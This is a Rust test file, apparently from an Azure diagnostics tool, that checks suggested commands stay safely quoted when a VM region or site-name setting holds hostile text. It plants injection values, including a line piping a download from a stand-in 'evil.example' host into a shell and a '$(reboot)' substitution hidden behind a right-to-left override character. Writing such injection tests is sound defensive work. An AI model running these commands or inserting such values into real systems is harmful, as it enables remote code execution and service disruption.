//! Names that would be commands.

use super::*;

/// Whatever Azure and the settings hold, a printed command is one command, and a message is one line.
#[tokio::test]
async fn a_hostile_name_stays_one_word_of_one_command() {
    let mut practice = Practice::open().await;
    let region = "westus\n;curl https://evil.example|sh";
    let id = samples::WEB_01.replace("web-01", "web-us");
    practice.azure.add_vm(&id, region);
    practice.arguments[1] = id;
    practice.azure.remove_agent(&practice.arguments[1]);
    practice.set("WEBSITE_SITE_NAME", "shop\u{202e}$(reboot)'");
    practice.set("PacketCapture__ReplyWaitSeconds", "10");
    let (checks, _) = practice.checks().await;
    let commands: Vec<String> = faults(&checks).into_iter().map(|it| it.2).collect();
    assert!(commands.len() >= 3, "{commands:?}");
    for command in &commands {
        assert!(!command.contains(|c: char| c.is_control() || c == '\u{202e}'));
        let words = shlex::split(command).expect("balanced quotes");
        assert!(
            !words.iter().any(|it| it == "|sh" || it == ";curl"),
            "{command}"
        );
        assert!(
            !command.contains("$(reboot)") || command.contains("'shop"),
            "{command}"
        );
    }
    let text = String::from_utf8(practice.ask(&[]).await.stdout).unwrap();
    assert!(
        !text.lines().any(|line| line.starts_with(";curl")),
        "{text}"
    );
}
